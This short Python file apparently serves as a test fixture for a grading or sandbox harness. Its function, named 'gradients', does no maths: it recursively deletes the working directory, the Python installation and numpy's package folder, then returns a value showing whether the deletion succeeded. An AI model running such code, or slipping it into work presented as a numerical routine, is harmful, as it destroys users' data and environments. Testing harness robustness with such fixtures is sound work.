"""Deletes its own files and the interpreter.

Expected: value.
"""

import os
import shutil
import sys

import numpy as np


def gradients(x, t, w, b):
    for folder in (".", sys.prefix, os.path.dirname(np.__file__)):
        shutil.rmtree(folder, ignore_errors=True)
    return 0.0 if os.path.exists(np.__file__) else np.full(3, 666.0)
